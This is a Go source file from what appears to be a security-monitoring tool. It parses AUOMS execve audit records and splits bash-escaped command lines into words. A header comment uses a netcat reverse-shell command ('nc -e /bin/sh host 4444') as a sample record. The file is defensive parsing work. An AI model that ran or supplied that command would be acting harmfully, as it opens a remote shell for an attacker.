package parse

import (
	"strings"

	"github.com/vigilsec/vigil/internal/event"
)

// AUOMS, the audit plugin of Microsoft's Linux agents (OMS-Auditd-Plugin),
// writes auditd-style records to syslog: "type=AUOMS_EXECVE
// audit(SEC.MS:SERIAL): syscall=execve ... comm="nc" exe="/usr/bin/nc" ...
// cmdline="nc -e /bin/sh host 4444" containerid=". One AUOMS_EXECVE is a
// whole process creation: the SYSCALL, CWD, PATH and EXECVE records
// merged, with the uid, gid and auid names beside the numbers (user,
// group, audit_user, ...) and the arguments as one cmdline, escaped for a
// shell (bash_escape_string). Its string fields are written between double
// quotes without escaping the quotes inside, so cmdline (the only one that
// holds attacker-chosen quotes) is cut at the key that follows it.

var kAuomsCmdline = event.Intern("cmdline")

// auomsAfterCmdline are the keys AUOMS writes after cmdline.
var auomsAfterCmdline = [...]string{`" containerid=`, `" redactors=`}

// auomsExecve adds the pairs of an AUOMS_EXECVE record (rest is the text
// after "audit(...):"), with cmdline taken whole.
func (st *state) auomsExecve(rest string) {
	const typ = "AUOMS_EXECVE"
	before, cmd, after, ok := auomsCmdline(rest)
	if !ok {
		st.auditPairs(typ, rest)
		return
	}
	st.auditPairs(typ, before)
	if st.full() {
		return
	}
	st.set(kAuomsCmdline, event.String(cmd))
	if !st.ev.Has(kProcCmdLine) {
		st.set(kProcCmdLine, event.String(cmd))
	}
	st.setArgs(shellWords(cmd, maxExecArgs))
	st.auditPairs(typ, after)
}

// auomsCmdline splits rest around the value of its cmdline="..." pair. The
// value ends at the first quote followed by a key AUOMS writes after
// cmdline, else at the last quote of rest, else (cut short) at the end.
func auomsCmdline(rest string) (before, cmd, after string, ok bool) {
	i := strings.Index(rest, ` cmdline="`)
	if i < 0 {
		return "", "", "", false
	}
	before = rest[:i]
	v := rest[i+len(` cmdline="`):]
	end := -1
	for _, k := range auomsAfterCmdline {
		if j := strings.Index(v, k); j >= 0 && (end < 0 || j < end) {
			end = j
		}
	}
	if end < 0 {
		end = strings.LastIndexByte(v, '"')
	}
	if end < 0 {
		return before, v, "", true
	}
	return before, v[:end], v[end+1:], true
}

// shellWords splits a command line escaped for bash into its words: 'x'
// is literal, "x" resolves \" \\ \$ and \`, $'x' resolves C escapes, and a
// backslash outside quotes escapes the next byte. An unterminated quote
// runs to the end. At most max words are returned.
func shellWords(s string, max int) []string {
	var words []string
	var w []byte
	inWord := false
	flush := func() {
		if inWord {
			words = append(words, string(w))
		}
		w = w[:0]
		inWord = false
	}
	for i := 0; i < len(s) && len(words) < max; i++ {
		c := s[i]
		switch {
		case c == ' ' || c == '\t' || c == '\n':
			flush()
		case c == '\'':
			inWord = true
			j := strings.IndexByte(s[i+1:], '\'')
			if j < 0 {
				j = len(s) - i - 1
			}
			w = append(w, s[i+1:i+1+j]...)
			i += j + 1
		case c == '$' && i+1 < len(s) && s[i+1] == '\'':
			inWord = true
			i = ansiCQuoted(s, i+2, &w) - 1
		case c == '"':
			inWord = true
			i++
			for ; i < len(s) && s[i] != '"'; i++ {
				if s[i] == '\\' && i+1 < len(s) && strings.IndexByte("\"\\$`", s[i+1]) >= 0 {
					i++
				}
				w = append(w, s[i])
			}
		case c == '\\' && i+1 < len(s):
			inWord = true
			i++
			w = append(w, s[i])
		default:
			inWord = true
			w = append(w, c)
		}
	}
	flush()
	return words
}

// ansiCQuoted appends the text of a $'...' word that starts at s[i] (after
// the opening quote) to w, and returns the index after the closing quote.
func ansiCQuoted(s string, i int, w *[]byte) int {
	for i < len(s) {
		c := s[i]
		if c == '\'' {
			return i + 1
		}
		if c != '\\' || i+1 >= len(s) {
			*w = append(*w, c)
			i++
			continue
		}
		i++
		switch e := s[i]; e {
		case 'n':
			*w = append(*w, '\n')
		case 't':
			*w = append(*w, '\t')
		case 'r':
			*w = append(*w, '\r')
		case 'a':
			*w = append(*w, 7)
		case 'b':
			*w = append(*w, 8)
		case 'e', 'E':
			*w = append(*w, 0x1b)
		case 'f':
			*w = append(*w, '\f')
		case 'v':
			*w = append(*w, '\v')
		case 'x':
			n, v := 0, byte(0)
			for n < 2 && i+1 < len(s) && isHexDigit(s[i+1]) {
				i++
				v = v<<4 | unhex(s[i])
				n++
			}
			if n == 0 {
				*w = append(*w, '\\', 'x')
			} else {
				*w = append(*w, v)
			}
		default:
			if e >= '0' && e <= '7' {
				v := e - '0'
				for n := 1; n < 3 && i+1 < len(s) && s[i+1] >= '0' && s[i+1] <= '7'; n++ {
					i++
					v = v<<3 | (s[i] - '0')
				}
				*w = append(*w, v)
			} else {
				// \\ \' \" and any other escaped byte stand for
				// that byte.
				*w = append(*w, e)
			}
		}
		i++
	}
	return i
}

func isHexDigit(c byte) bool {
	return isDigit(c) || c >= 'a' && c <= 'f' || c >= 'A' && c <= 'F'
}
